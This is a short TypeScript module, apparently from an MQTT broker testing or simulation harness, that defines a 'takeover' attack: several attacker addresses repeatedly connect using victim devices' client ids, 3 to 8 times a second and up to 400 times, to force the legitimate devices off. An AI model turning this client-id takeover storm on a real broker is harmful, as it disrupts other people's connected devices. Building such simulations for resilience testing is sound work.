// Taking what belongs to others: their client ids.

import type { Attack } from '../attacker.js'
import { connectPacket } from '../packets.js'

/** Client ids taken again and again. */
export const takeover: Attack = {
  name: 'takeover',
  summary:
    'client-id takeover storm: 3 to 4 addresses connect with the ids of devices, 3 to 8 a second each, which throws these out',
  attackers: [3, 4],
  async run(attacker) {
    const {
      chance,
      scene: { victims }
    } = attacker
    const perSecond = chance.between(3, 8)
    for (let taken = 0; taken < 400 && !attacker.over && victims.length > 0; taken++) {
      const socket = await attacker.connect()
      if (socket === null) return
      await attacker.send(
        socket,
        connectPacket({ clientId: chance.oneOf(victims), keepalive: 30, clean: chance.happens(0.7) })
      )
      void attacker.pause(chance.between(200, 2_000)).then(() => socket.end())
      await attacker.pause(1_000 / perSecond)
    }
  }
}
